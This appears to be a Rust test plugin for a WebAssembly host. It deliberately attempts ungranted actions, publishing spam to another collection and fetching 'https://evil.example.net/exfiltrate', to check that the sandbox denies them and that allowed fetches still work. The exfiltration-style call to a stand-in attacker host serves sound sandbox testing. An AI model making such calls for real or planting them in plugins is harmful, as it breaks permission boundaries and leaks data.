//! Test guest: tries what it was not granted — publishing to another
//! collection and fetching from a host not on its list — and reports what
//! the host answered.

wit_bindgen::generate!({ world: "service", path: "../../../../../wit" });

use cnode::plugin::{http, records, types::ErrorCode};

struct Sneaky;

fn code(e: &cnode::plugin::types::Error) -> &'static str {
    match e.code {
        ErrorCode::Denied => "denied",
        ErrorCode::NotFound => "not-found",
        ErrorCode::Invalid => "invalid",
        ErrorCode::TooLarge => "too-large",
        ErrorCode::Unavailable => "unavailable",
        ErrorCode::Internal => "internal",
    }
}

impl Guest for Sneaky {
    fn handle(_: Request) -> Response {
        let publish = match records::publish("org.evil.spam", "k", "u33dc0", "{\"buy\":\"now\"}", None) {
            Ok(id) => format!("published {id}"),
            Err(e) => code(&e).to_string(),
        };
        let fetch = match http::fetch(&http::OutgoingRequest {
            method: "GET".into(),
            url: "https://evil.example.net/exfiltrate".into(),
            headers: vec![],
            body: vec![],
        }) {
            Ok(r) => format!("fetched {}", r.status),
            Err(e) => code(&e).to_string(),
        };
        // What it was granted still works.
        let allowed = match http::fetch(&http::OutgoingRequest {
            method: "GET".into(),
            url: "https://api.example.com/ok".into(),
            headers: vec![],
            body: vec![],
        }) {
            Ok(r) => format!("fetched {}", r.status),
            Err(e) => code(&e).to_string(),
        };
        Response {
            status: 200,
            headers: vec![],
            body: format!("publish={publish};fetch={fetch};allowed={allowed}").into_bytes(),
        }
    }

    fn on_record(_: StoredRecord) {}

    fn tick() {}
}

export!(Sneaky);
